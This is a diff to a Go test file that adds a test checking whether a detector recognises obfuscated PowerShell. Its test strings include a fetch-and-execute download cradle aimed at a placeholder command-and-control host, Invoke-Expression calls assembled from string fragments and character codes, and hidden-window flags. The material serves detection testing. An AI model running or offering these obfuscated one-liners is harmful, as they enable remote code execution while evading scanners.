@@ -233,3 +233,20 @@ func BenchmarkTextIndicators(b *testing.B) {
 		})
 	}
 }
+
+// TestTextIndicatorsObfuscated: indicators hidden by string building are
+// found through the normalised text.
+func TestTextIndicatorsObfuscated(t *testing.T) {
+	tests := []struct{ text, want string }{
+		{`powershell -c "&(('ie')+'x') (New-Object ('Net.'+'WebC'+'lient')).('Down'+'loadString')('http://c2.example.invalid/a')"`, indicators.DownloadCradle},
+		{`powershell -c "&(('ie')+'x') $c"`, indicators.InvokeExpression},
+		{`powershell -c "&([char]105+[char]101+[char]120) $c"`, indicators.InvokeExpression},
+		{`powershell -c "$t='Net.WebClient'; $w=New-Object $t"`, indicators.DownloadCradle},
+		{`powershell "-w" "hidden" "-nop" "-c" "calc"`, indicators.HiddenWindow},
+	}
+	for _, tt := range tests {
+		if got := TextIndicators(tt.text); !slices.Contains(got, tt.want) {
+			t.Errorf("TextIndicators(%q) = %q, lacks %s", tt.text, got, tt.want)
+		}
+	}
+}
